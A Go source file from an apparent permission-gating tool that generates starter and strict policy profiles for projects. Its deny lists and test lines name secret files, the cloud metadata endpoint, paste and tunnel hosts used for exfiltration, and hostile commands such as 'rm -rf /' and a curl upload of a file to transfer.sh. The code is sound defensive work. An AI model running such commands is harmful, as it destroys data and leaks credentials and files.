// Package profile proposes a first policy for a project: rules, the keys of
// permgate.json, and tests that say what they do. What belongs to one
// ecosystem is a part of parts.txt; the files are made of those that a project shows.
package profile

import (
	_ "embed" // of the strict profile
	"fmt"
	"io/fs"
	"path"
	"slices"
	"strings"

	"github.com/permgate--owner/permgate/rules/load"
	"github.com/tidwall/gjson"
)

// A Profile is how much is allowed unasked.
type Profile struct{ Name, Doc string }

// Profiles are the profiles there are; the first is the default.
var Profiles = [...]Profile{
	{Starter, "building, testing and committing run without asking, calls that name a file of secrets are denied"},
	{Strict, "only whole commands are allowed, without wildcards where project code would run; " +
		"network, installing and pushing ask"},
}

const (
	Starter = "starter"
	Strict  = "strict"
)

// spelled are texts, each after a word, with what comes around a command.
func spelled(texts, word, before, after string) (out []string) {
	for text := range strings.SplitSeq(texts, "; ") {
		switch {
		case text == "":
		case text[0] >= 'A' && text[0] <= 'Z':
			out = append(out, word+text)
		default:
			out = append(out, word+before+text+after)
		}
	}
	return out
}

// Lists are rules, and tests of them in the form of permissions.test.
type Lists struct{ Allow, Ask, Deny, Tests []string }

// A Group is what one part adds to the files of one project.
type Group struct {
	Name, Comment string
	Lists
}

// Groups returns the parts a project shows, under one profile; the first is every project's.
func Groups(root fs.FS, profile string) []Group {
	var out []Group
	files := manifests(root)
	for _, p := range parts() {
		if !p.shownBy(files) {
			continue
		}
		both, more, names := p.lists("both"), p.lists(profile), p.names(root, files)
		g := Group{p.Name, p.Text["comment"], Lists{
			fill(both.Allow, more.Allow, names), fill(both.Ask, more.Ask, names),
			fill(both.Deny, more.Deny, names), fill(both.Tests, more.Tests, names),
		}}
		if len(g.Allow)+len(g.Ask)+len(g.Deny) > 0 {
			out = append(out, g)
		}
	}
	return out
}

// shownBy reports whether the files of a project show the part, and not that another one is meant.
func (p *part) shownBy(files []string) bool {
	below := func(name string) bool { return strings.Contains(name, "/") }
	inRoot := slices.DeleteFunc(slices.Clone(files), below)
	anywhere, root := p.Text["files"], p.Text["root files"]
	shown := anywhere+root == "" || anyNamed(files, anywhere) || anyNamed(inRoot, root)
	return shown && !anyNamed(files, p.Text["unless"])
}

// anyNamed reports whether one of the patterns matches the name of a file.
func anyNamed(files []string, patterns string) bool {
	for pattern := range strings.FieldsSeq(patterns) {
		named := func(name string) bool {
			ok, _ := path.Match(pattern, path.Base(name)) // the patterns are those of parts.txt
			return ok
		}
		if slices.ContainsFunc(files, named) {
			return true
		}
	}
	return false
}

// fill joins two lists and puts the names in: each is a task, or "TASK MEMBER".
func fill(both, more, names []string) []string {
	var out []string
	add := func(text string) {
		if !slices.Contains(out, text) {
			out = append(out, text)
		}
	}
	for _, text := range slices.Concat(both, more) {
		switch {
		case strings.Contains(text, "{test}"):
			if slices.Contains(names, "test") {
				add(strings.ReplaceAll(text, "{test}", "test"))
			}
		case !strings.Contains(text, "{"):
			add(text)
		default:
			for _, name := range names {
				task, of, _ := strings.Cut(name, " ")
				if of != "" || !strings.Contains(text, "{of}") {
					add(strings.NewReplacer("{}", task, "{of}", of).Replace(text))
				}
			}
		}
	}
	return out
}

// Keys of permgate.json that the strict profile sets for a team. In a project they only tighten.
var (
	excluded = [...]string{
		"**/.env", "**/.env.local", "**/.env.production", "**/*.pem", "**/*.p12", "**/*.pfx", "**/id_rsa", "**/id_ed25519",
		"~/.ssh/**", "~/.gnupg/**", "~/.aws/credentials", "~/.netrc",
	}
	unwanted = [...]string{ // the first two hand out the credentials of a cloud machine
		"169.254.169.254", "metadata.google.internal",
		"pastebin.com", "transfer.sh", "webhook.site", "*.ngrok.io", "*.requestbin.com",
	}
	gateTests = [...]string{
		"deny Bash rm -rf /", "deny Read certs/ca.pem => excluded content",
		"deny WebFetch http://169.254.169.254/latest/meta-data/",
		"deny Bash curl -s http://169.254.169.254/latest/meta-data/",
		"deny WebFetch https://pastebin.com/raw/x", "deny Bash curl -F f=@README.md https://transfer.sh",
	}
)

// strictText is the permgate.json of the strict profile, with room for three lists: keys that only loosen, excluded and
// unwanted.
//
//go:embed strict.jsonc
var strictText string

// Gate is the text of permgate.json, nil for a profile that has none.
func (p *Policy) Gate() []byte {
	if p.Profile != Strict {
		return nil
	}
	var own []string
	for i := range load.PostureKeys {
		if k := &load.PostureKeys[i]; len(k.Loosen) > 0 && k.Name != "catastrophic" {
			own = append(own, k.Name)
		}
	}
	var keys strings.Builder
	for _, line := range fold(strings.Join(own, ", "), 90) {
		keys.WriteString("  //   " + line + "\n")
	}
	return fmt.Appendf(nil, strictText, keys.String(), quoted(excluded[:], ",\n    "), quoted(unwanted[:], ",\n      "))
}

// usual are names of scripts and targets that build, test or look: a rule takes no other text from a project's files.
func usual(name string) bool {
	return slices.Contains([]string{
		"test", "tests", "unit", "coverage", "check", "lint", "vet", "build", "compile", "typecheck", "type-check",
		"types", "tsc", "format", "fmt",
	}, name)
}

// sends are words of a script's name that say that something leaves the machine.
func sends(word string) bool {
	return slices.Contains([]string{"deploy", "publish", "release", "push", "upload", "send"}, word)
}

// scriptName reports whether a rule may name a script: a usual name, or one plus words (test:unit).
func scriptName(name string) bool {
	words := strings.Split(name, ":")
	if !usual(words[0]) || len(name) > 40 {
		return false
	}
	return !slices.ContainsFunc(words[1:], func(word string) bool {
		return word == "" || strings.Trim(word, letters) != "" || slices.ContainsFunc(strings.Split(word, "-"), sends)
	})
}

const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_"

// most is how much of a file is read, mostNames how many names one part takes.
const (
	most      = 1 << 20
	mostNames = 16
)

// read returns the text of a regular file, or nil if none.
func read(root fs.FS, name string) []byte {
	info, err := fs.Stat(root, name)
	if err != nil || !info.Mode().IsRegular() || info.Size() > most {
		return nil
	}
	text, _ := fs.ReadFile(root, name) // nothing is known then
	return text
}

// packageScripts returns the usual names under "scripts" of every package.json.
func packageScripts(root fs.FS, files []string) []string {
	var out []string
	for _, name := range files {
		if path.Base(name) != "package.json" {
			continue
		}
		text := read(root, name)
		if !gjson.ValidBytes(text) {
			continue
		}
		gjson.GetBytes(text, "scripts").ForEach(func(key, _ gjson.Result) bool {
			if scriptName(key.Str) && !slices.Contains(out, key.Str) {
				out = append(out, key.Str)
			}
			return len(out) < mostNames
		})
	}
	return out[:min(len(out), mostNames)]
}

// makeTargets returns the usual targets of the makefile that make would take.
func makeTargets(root fs.FS, _ []string) []string {
	var out []string
	for _, name := range [...]string{"GNUmakefile", "makefile", "Makefile"} {
		text := read(root, name)
		for line := range strings.Lines(string(text)) {
			names, rest, ok := strings.Cut(line, ":")
			if !ok || strings.HasPrefix(line, "\t") || strings.HasPrefix(rest, "=") || strings.HasPrefix(rest, ":=") {
				continue
			}
			for target := range strings.FieldsSeq(names) {
				if usual(target) && !slices.Contains(out, target) {
					out = append(out, target)
				}
			}
		}
		if text != nil {
			break
		}
	}
	return out
}
